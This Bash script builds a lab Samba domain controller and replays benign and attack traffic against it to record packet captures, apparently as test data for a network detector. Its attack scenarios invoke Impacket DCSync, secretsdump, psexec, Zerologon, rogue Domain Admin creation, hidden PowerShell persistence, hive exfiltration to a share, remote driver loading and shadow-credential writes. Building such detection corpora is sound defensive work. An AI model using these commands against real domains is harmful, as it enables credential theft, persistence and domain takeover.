#!/bin/bash
# SPDX-License-Identifier: MIT
# domain.sh SCENARIO...|all|list: a domain controller of Samba at 10.20.2.20, and what administrators and intruders ask it with
# the tools of Samba and Impacket, recorded at the gateway into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump ethtool iproute2 samba samba-ad-dc samba-ad-provision samba-dsdb-modules samba-vfs-modules winbind
# smbclient samba-common-bin python3-samba python3-impacket krb5-user ldap-utils.
set -eu
export XFL_PREFIX=${XFL_PREFIX:-dom}
all=(dom_dcsync dom_enumeration dom_registry dom_service dom_secrets dom_backup_key dom_account dom_zerologon dom_coercion
    dom_print dom_log dom_shadow dom_directory dom_delegation benign_domain benign_directory)
# shellcheck source=tests/lab/lab.sh
. "$(dirname "$0")/lab.sh"
dc=10.20.2.20
realm=CORP.EXAMPLE.TEST
admin='CORP/Administrator'
secret=Secret-1x

prepare() {
    local option
    local -a options=()
    for option in "interfaces=lo $dc/24" "bind interfaces only=yes" "posix:eadb=$dir/eadb.tdb" \
        "log file=$dir/samba.log" "pid directory=$dir" "ntlm auth=yes" "spoolss:architecture=Windows x64" \
        "server services=s3fs rpc ldap cldap kdc winbindd drepl" "rpc_server:fssagentd=embedded" \
        "registry shares=yes" "allow dns updates=disabled" \
        "cache directory=$dir/cache" "state directory=$dir/state" "rpc start on demand helpers=yes"; do
        options+=(--option="$option")
    done
    mkdir -p /run/samba "$dir"/{ncalrpc,lock,cache,state}
    "${srv[@]}" samba-tool domain provision --targetdir="$dir/dc" --realm=$realm --domain=CORP --host-name=dc1 \
        --host-ip=$dc --adminpass=$secret --dns-backend=NONE --server-role=dc "${options[@]}" >"$dir/provision.log" 2>&1
    conf=$dir/dc/etc/smb.conf
    mkdir -p "$dir/admin/Temp" "$dir/spool"
    # provision keeps some options for itself
    sed -i 's/^\[global\]/&\n\tserver smb encrypt = off\n\tprinting = bsd\n\tprintcap name = \/dev\/null\n\teventlog list = Application System Security\n\tldap server require strong auth = no/' "$conf"
    cat >>"$conf" <<CONF
[ADMIN\$]
 path = $dir/admin
 read only = no
[office]
 path = $dir/spool
 printable = yes
[print\$]
 path = $dir/spool
 read only = no
CONF
    cat >"$dir/krb5.conf" <<CONF
[libdefaults]
 default_realm = $realm
 dns_lookup_kdc = false
 rdns = false
 dns_canonicalize_hostname = false
[realms]
 $realm = {
  kdc = $dc
  kpasswd_server = $dc
 }
[domain_realm]
 .corp.example.test = $realm
CONF
    cat >"$dir/client.conf" <<CONF
[global]
 workgroup = CORP
 realm = $realm
 netbios name = PC7
 security = ads
 name resolve order = host
 lock directory = $dir/me
 state directory = $dir/me
 cache directory = $dir/me
 private dir = $dir/me
CONF
    mkdir -p "$dir/me" "/etc/netns/$XFL_PREFIX-cli"
    printf '127.0.0.1 localhost\n10.20.1.10 pc7.corp.example.test pc7\n%s dc1.corp.example.test dc1 corp.example.test\n' $dc \
        >"/etc/netns/$XFL_PREFIX-cli/hosts"
    export KRB5_CONFIG=$dir/krb5.conf
    accounts
    bg samba "${srv[@]}" samba -F --no-process-group -s "$conf"
    sleep 8
}

accounts() { # people, a computer, and keys of the registry as a Windows host has them
    local name key
    for name in alice bob carol dave erin frank; do samba-tool user create "$name" "Summer-$name-1" -s "$conf"; done
    samba-tool computer create FILES7 -s "$conf"
    for key in 'SOFTWARE\Microsoft\Windows\CurrentVersion\Run' SAM 'SECURITY\Policy\Secrets' \
        'SYSTEM\CurrentControlSet\Control\Lsa\JD' 'SYSTEM\CurrentControlSet\Control\Lsa\Skew1' \
        'SYSTEM\CurrentControlSet\Control\Lsa\GBG' 'SYSTEM\CurrentControlSet\Control\Lsa\Data'; do
        net -s "$conf" registry createkey "HKLM\\$key"
    done
} >"$dir/accounts.log" 2>&1

impacket() { # example arguments...
    local example=$1
    shift
    "${cli[@]}" timeout 30 /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$example.py" "$@" || true
}

rpc() { "${cli[@]}" timeout 20 rpcclient -s "$dir/client.conf" -U "$admin%$secret" "$dc" -c "$1" || true; }

net_() { "${cli[@]}" timeout 20 net -s "$dir/client.conf" -S dc1 -I "$dc" -U "$admin%$secret" "$@" || true; }

# ---- scenarios ----

dom_dcsync() { impacket secretsdump -just-dc-ntlm "$admin:$secret@$dc"; }

dom_enumeration() { # accounts one by one, then by their numbers, then groups and who is in them
    impacket samrdump "$admin:$secret@$dc"
    impacket lookupsid "$admin:$secret@$dc" 1120
    net_ rpc group members 'Domain Admins'
    rpc 'enumdomgroups;querygroupmem 0x200;netshareenum;getdompwinfo'
}

dom_registry() {
    impacket reg "$admin:$secret@$dc" query -keyName 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run'
    impacket reg "$admin:$secret@$dc" add -keyName 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' -v Updater -vt REG_SZ \
        -vd 'powershell.exe -w hidden -f C:\Users\Public\u.ps1'
}

dom_service() { # the controller of Samba has services, and makes none
    impacket services "$admin:$secret@$dc" list
    impacket smbexec "$admin:$secret@$dc"
    impacket psexec "$admin:$secret@$dc" whoami
}

dom_secrets() { # hives saved to a share
    impacket reg "$admin:$secret@$dc" backup -o '\\10.20.1.10\loot'
    impacket secretsdump -use-vss "$admin:$secret@$dc"
}

dom_backup_key() { impacket dpapi backupkeys -t "$admin:$secret@$dc"; }

dom_account() {
    impacket addcomputer -method SAMR -computer-name 'WS99$' -computer-pass Winter-99 -dc-ip $dc "$admin:$secret"
    net_ rpc user add mallory Winter-1x
    net_ rpc group addmem 'Domain Admins' mallory
    impacket smbpasswd -newhashes :31d6cfe0d16ae931b73c59d7e0c089c0 "CORP/bob:Summer-bob-1@$dc"
}

dom_zerologon() { "${cli[@]}" timeout 40 /usr/bin/python3 "$here/zerologon_ask.py" $dc DC1 40; }

dom_coercion() { # who watches a printer names the host that is to be told: here another one
    "${cli[@]}" timeout 20 rpcclient -s "$dir/client.conf" --option='netbios name=10.20.1.13' -U "$admin%$secret" $dc \
        -c 'rffpcnex office' || true
    sleep 2
}

dom_print() {
    rpc 'adddriver "Windows x64" "Office:unidrv.dll:\\10.20.1.10\smb\add.dll:unidrvui.dll:NULL:NULL:RAW:NULL" 3'
}

dom_log() { "${cli[@]}" timeout 20 /usr/bin/python3 "$here/clear_log.py" $dc Administrator $secret Application System Security; }

dom_shadow() { # a host that serves no domain as a source of replication, for two seconds
    "${cli[@]}" timeout 30 /usr/bin/python3 "$here/shadow_ask.py" dc1.corp.example.test $realm Administrator $secret pc7.corp.example.test
}

change() { # user password: a change of the directory in the clear, as LDIF
    "${cli[@]}" timeout 10 ldapmodify -c -x -H "ldap://$dc" -D "$1@${realm,,}" -w "$2" || true
}

dom_directory() { # who may act for whom, a second key, a member of a ruling group, a password that few may read
    local base=DC=corp,DC=example,DC=test
    change Administrator $secret <<LDIF
dn: CN=FILES7,CN=Computers,$base
changetype: modify
replace: msDS-AllowedToActOnBehalfOfOtherIdentity
msDS-AllowedToActOnBehalfOfOtherIdentity:: AQAEgBQAAAAAAAAAAAAAACQAAAABAgAAAAAABSAAAAAgAgAABAAgAAEAAAAAABgAAAAAEAECAAAAAAAFIAAAACACAAA=

dn: CN=bob,CN=Users,$base
changetype: modify
add: msDS-KeyCredentialLink
msDS-KeyCredentialLink: B:8:00020000:CN=bob,CN=Users,$base

dn: CN=Domain Admins,CN=Users,$base
changetype: modify
add: member
member: CN=bob,CN=Users,$base
LDIF
    "${cli[@]}" timeout 10 ldapsearch -x -H "ldap://$dc" -D "Administrator@${realm,,}" -w $secret -b $base \
        '(objectCategory=computer)' msDS-ManagedPassword ms-Mcs-AdmPwd || true
}

dom_delegation() { # a computer account that may act for others asks in the name of the administrator
    samba-tool user setpassword 'FILES7$' --newpassword=Winter-77x -s "$conf" >/dev/null
    samba-tool delegation for-any-protocol 'FILES7$' on -s "$conf"
    samba-tool delegation add-service 'FILES7$' cifs/dc1.corp.example.test -s "$conf"
    samba-tool domain exportkeytab "$dir/files7.keytab" --principal='FILES7$' -s "$conf" >/dev/null
    # Impacket's getST makes a checksum here that this controller refuses
    "${cli[@]}" kinit -k -t "$dir/files7.keytab" "FILES7\$@$realm"
    "${cli[@]}" kvno -k "$dir/files7.keytab" -U "Administrator@$realm" -P cifs/dc1.corp.example.test || true
    "${cli[@]}" kdestroy
}

benign_directory() { # a phone book and a list of people that programs keep
    local base=DC=corp,DC=example,DC=test
    samba-tool group add Readers -s "$conf" >/dev/null
    change Administrator $secret <<LDIF
dn: CN=alice,CN=Users,$base
changetype: modify
replace: telephoneNumber
telephoneNumber: 555 0107
-
replace: description
description: msDS-KeyCredentialLink

dn: CN=Readers,CN=Users,$base
changetype: modify
add: member
member: CN=alice,CN=Users,$base

dn: OU=Guests,$base
changetype: add
objectClass: organizationalUnit
ou: Guests
LDIF
    "${cli[@]}" timeout 10 ldapsearch -x -H "ldap://$dc" -D "Administrator@${realm,,}" -w $secret -b $base '(cn=alice)' telephoneNumber || true
}

benign_domain() { # a computer joins, a user logs in, asks for shares, changes the password; an administrator looks around
    net_ ads join --no-dns-updates
    echo 'Summer-alice-1' | "${cli[@]}" kinit alice@$realm
    "${cli[@]}" smbclient "//dc1.corp.example.test/netlogon" -s "$dir/client.conf" -k -c 'ls'
    "${cli[@]}" smbclient "//dc1.corp.example.test/sysvol" -s "$dir/client.conf" -U 'CORP/alice%Summer-alice-1' -c 'ls'
    "${cli[@]}" smbclient -L dc1.corp.example.test -s "$dir/client.conf" -U 'CORP/alice%Summer-alice-1'
    "${cli[@]}" net -s "$dir/client.conf" ads testjoin -S dc1.corp.example.test || true
    printf 'Summer-bob-1\nSummer-bob-2\nSummer-bob-2\n' | "${cli[@]}" smbpasswd -s -r $dc -U bob -c "$dir/client.conf" || true
    rpc 'lookupnames alice; lookupnames bob; getdcname CORP; srvinfo'
    net_ ads changetrustpw
    "${cli[@]}" kdestroy
}

run_lab "$@"
